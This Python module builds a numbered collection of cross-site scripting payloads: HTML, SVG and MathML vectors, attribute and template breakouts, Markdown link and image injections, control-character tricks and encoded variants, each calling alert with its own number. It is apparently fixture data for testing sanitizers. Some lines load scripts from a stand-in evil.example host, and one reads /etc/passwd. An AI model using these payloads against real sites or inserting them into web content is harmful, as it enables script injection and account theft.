"""Texts that would become a program if anything let them: what acts × where it may land × how it is written. Each calls `alert` with a number of its own."""

import base64
import html
import re
from urllib.parse import quote

CALL = "alert(1)"
"""Stands in each of them; `PAYLOADS` has another number in every one."""

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=y>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== onerror=alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css onerror=alert(1)>",
    "<style onload=alert(1)>*{color:red}</style>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/alert(1))}</style>",
    "<base href=https://evil.example/ target=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<form id=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://evil.example onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<p onmouseover=alert(1) onclick=alert(1) style=width:100%>x</p>",
    "<p style=animation-name:x onanimationstart=alert(1)><style>@keyframes x{}</style>x</p>",
    "<custom-tag tabindex=1 onfocus=alert(1) autofocus>x</custom-tag>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<details open><template shadowrootmode=open><img src=x onerror=alert(1)></template></details>",
)
"""What acts where a text is taken for HTML."""

BREAKS = (
    *('"', "'", '">', "'>", '"/>', "`>", "</p>", "</li>", "</h1>", "</a>", "</pre>", "</title>", "</textarea>", "</style>", "</script>", "</option></select>"),
    *(
        "</svg>",
        "</tspan></text>",
        "</noscript>",
        "</template>",
        "</main>",
        "</body></html>",
        "-->",
        "--!>",
        "]]>",
        "<![CDATA[",
        "<!--",
        "<?x ?>",
        "\n\n",
        "\\",
    ),
)
"""What leads out of where a text stands."""

INSIDE = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " onmouseover=alert(1) ",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" style="animation-name:x" onanimationstart="alert(1)',
    '" srcdoc="<script>alert(1)</script>',
    '" formaction="javascript:alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript:alert(1)//https://a.example",
    'https://a.example/" onclick="alert(1)',
    "//evil.example/alert(1)",
    '+49 30 1"onclick="alert(1)',
    'Signal " onclick=alert(1) +4930123456',
    '");alert(1);//',
    "';alert(1);//",
    "`;alert(1);//",
    "${alert(1)}",
    "{{ 7 * 7 }}{% set x = alert(1) %}",
    "{{ self.__init__.__globals__ }}alert(1)",
    "%(csrf_token)s%s{0}alert(1)",
    "#{alert(1)}<%= alert(1) %>",
)
"""What acts within an attribute, an address, a script or a template."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd?alert(1))",
    "[x](blob:alert(1))",
    "[x](//evil.example/alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example '\"onmouseover=alert(1) x=\"')",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](words/x "title\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](pictures/order-of-work)',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/x.png?alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/?alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x]: https://a.example "\' onclick=alert(1)"\n\n[x]',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onclick=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    '## x {#x"onclick="alert(1)}',
    "## x {#x onclick=alert(1)}",
    '- [ ] x {#own-a"onclick=alert(1) minutes=10 about=frame}',
    '- x {#own-b minutes=10 about="onclick=alert(1)}',
    "> <img src=x onerror=alert(1)>",
    "| <svg onload=alert(1)> |\n|---|\n| x |",
    "**<svg onload=alert(1)>**",
    "[<img src=x onerror=alert(1)>](contacts)",
    "x\n<script>alert(1)</script>\ny",
    "1. <svg onload=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
)
"""What acts where Markdown makes HTML of it."""

SIGNS = (
    "\u202e<script>alert(1)</script>\u2066",
    "\ue000main\ue001alert(1)\ue000title\ue001",
    "\U000f0000<img src=x onerror=alert(1)>\U000f0001",
    "<script\x0b>alert(1)</script\x0b>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src='x' onerror='alert(1)'",
    "line\u2028<svg onload=alert(1)>\u2029",
    "tag\U000e0073<svg onload=alert(1)>",
)


def as_numbers(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def as_hex(text: str) -> str:
    return "".join(f"&#x{ord(sign):x}" for sign in text)


def as_wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞").replace('"', "＂")


def as_seven_bits(text: str) -> str:
    """UTF-7, which old browsers guessed."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


def as_escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


def with_hidden_names(text: str) -> str:
    """The names of handlers in capitals, with a slash before them."""
    return re.sub(r" (on[a-z]+)=", lambda found: f"/{found[1].upper()} = ", text)


WRITTEN = (
    *(str.upper, str.swapcase, html.escape, lambda text: html.escape(html.escape(text)), as_numbers, as_hex, quote, lambda text: quote(quote(text)), as_wide),
    *(as_seven_bits, as_escapes, with_hidden_names, lambda text: base64.b64encode(text.encode()).decode()),
)
"""Ways of writing the same, each of which something may undo."""


def made() -> list[str]:
    plain = [*VECTORS, *INSIDE, *MARKDOWN, *SIGNS]
    broken = [f"{BREAKS[(number + turn * 11) % len(BREAKS)]}{vector}" for turn in range(3) for number, vector in enumerate(VECTORS)]
    written = [WRITTEN[(number + turn * 4) % len(WRITTEN)](vector) for turn in range(3) for number, vector in enumerate((*VECTORS, *INSIDE[:4]))]
    return list(dict.fromkeys([*plain, *broken, *written]))


PAYLOADS = tuple(payload.replace(CALL, f"alert({number})") for number, payload in enumerate(made()))
"""In the order of `made`, so that a number leads back to what it was made of."""
